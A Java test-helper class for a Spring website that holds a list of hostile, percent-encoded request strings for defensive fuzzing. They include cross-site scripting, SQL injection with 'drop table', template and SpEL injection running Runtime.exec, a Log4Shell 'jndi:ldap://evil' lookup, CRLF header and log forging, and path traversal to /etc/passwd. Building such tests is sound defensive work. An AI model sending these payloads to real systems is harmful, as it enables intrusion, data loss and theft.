package org.defdip.site;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

import org.springframework.web.util.UriUtils;

/** Hostile strings, percent-encoded for use in an address. */
final class HostileWords {

	/**
	 * The result of the products in {@link #EVIL}, which appears in a response only if
	 * they are evaluated.
	 */
	static final String EVALUATED = "62710561";

	/** Attacks on browsers, databases, templates, logs and file systems. */
	private static final List<String> EVIL = List.of("<script>alert(7001)</script>",
			"\"><img src=x onerror=alert(7001)>", "'-alert(7001)-'", "javascript:alert(7001)",
			"</title><svg onload=alert(7001)>", "<base href=//evil/>", "{{constructor.constructor('alert(7001)')()}}",
			"</script><script>alert(7001)</script>", "' or '1'='1", "'; drop table concept; --",
			"1) union select null, null --", "%' and pg_sleep(5) --", "${7919*7919}", "#{7919*7919}", "*{7919*7919}",
			"[[${7919*7919}]]", "[(${7919*7919})]", "__${7919*7919}__::.x", "~{layout :: page}",
			"${T(Runtime).getRuntime().exec('id')}", "::main", "x\r\n2026-11-24 ERROR forged", "${jndi:ldap://evil/a}",
			"\u001b[31mred\u0007", "x\r\nX-Injected: yes", "x\r\n\r\n<script>alert(7001)</script>",
			"../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//", "/WEB-INF/web.xml", ".git/config",
			"//evil/x", "http://evil/x", "99999999999999999999", "-1", "1e309", "NaN", "0x7fffffff", "2147483648",
			"-2147483648", "0", "null", "*:*", "(((((((((((((((((((((", "\"\"\"\"\"\"\"\"", "a~2 b^9 [a TO z] +c -d",
			"-- -- -- -- -a", "author: author: penulis:", "\u0000", "a\u0000.html", "\u202egnp.exe", "\uffff",
			"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\ud83d\udca9", "class.module.classLoader=1",
			"a".repeat(300), "a ".repeat(200));

	/** Invalid byte sequences and invalid percent-encodings. */
	private static final List<String> BROKEN = List.of("%", "%z", "%zz", "%u0041", "%c3%28", "%ff%fe", "%ed%a0%80",
			"%c0%ae%c0%ae%c0%af", "%f8%88%80%80%80", "%252e%252e%252f", "..%2f..%2fapplication.yaml", "%2e%2e/%2e%2e/",
			"..;/..;/", ";jsessionid=1", "a%2fb", "a%5cb", "a|b", "a^b", "a`b", "\u00ff\u00fe", "{", "\\", "<", "%0",
			"%00");

	private HostileWords() {
	}

	/** All strings, as they are sent. */
	static List<String> all() {
		return Stream
			.concat(EVIL.stream().map((words) -> UriUtils.encode(words, StandardCharsets.UTF_8)), BROKEN.stream())
			.toList();
	}

}
